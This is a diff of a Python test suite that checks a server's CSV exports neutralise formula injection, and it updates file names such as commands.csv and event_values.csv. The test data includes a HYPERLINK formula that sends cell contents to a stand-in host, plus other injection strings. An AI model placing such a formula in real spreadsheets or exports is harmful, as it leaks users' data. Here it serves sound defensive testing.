@@ -39,12 +39,13 @@ FORMULAS = {  # where each one is typed (the server strips names, labels, chat a
     "title": "\t=1+1",
     "study": "\r=1+1",
     "chat": '=HYPERLINK("http://example.invalid/?"&A1,"x")',
-    "chat_id": "-2+3",                   # the client's command id (events.csv `command_id`)
+    "chat_id": "-2+3",                   # the client's command id (commands.csv `command_id`)
     "answer": "-2+3",
     "choice": "=41+1",
 }
 CSV_NAMES = ("events.csv", "rounds.csv", "chat.csv", "offers.csv", "questionnaire.csv", "players.csv",
-             "sessions.csv")
+             "sessions.csv", "commands.csv", "event_values.csv", "alliance_rounds.csv", "withhold.csv", "exits.csv",
+             "survey.csv", "selection.csv")
 # Import as a spreadsheet user could: comma, '"', UTF-8, from line 1, standard columns, English
 # numbers, quoted fields not forced to text, special numbers detected, formulas evaluated (13th).
 CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
@@ -241,9 +242,9 @@ async def test_no_csv_cell_of_the_export_runs_as_a_formula(server, api, clients,
     (s,) = rows("sessions.csv")
     assert (s["title"], s["study"]) == (safe["title"], safe["study"])
     assert {r["study"] for r in rows("rounds.csv")} == {r["study"] for r in rows("replay.csv")} == {safe["study"]}
-    (cmd,) = [e for e in rows("events.csv") if e["command_id"] == safe["chat_id"]]
+    (cmd,) = [e for e in rows("commands.csv") if e["command_id"] == safe["chat_id"]]
     assert cmd["client_time"] == "-3.5"  # a number: no apostrophe
-    assert {safe["chat"], safe["alice"], safe["alice_label"]} <= {v for e in rows("events.csv") for v in e.values()}
+    assert {safe["chat"], safe["alice"], safe["alice_label"]} <= {e["text"] for e in rows("event_values.csv")}
 
     # JSON Lines and SQLite keep the raw text, without the apostrophe
     raw = set(FORMULAS.values())
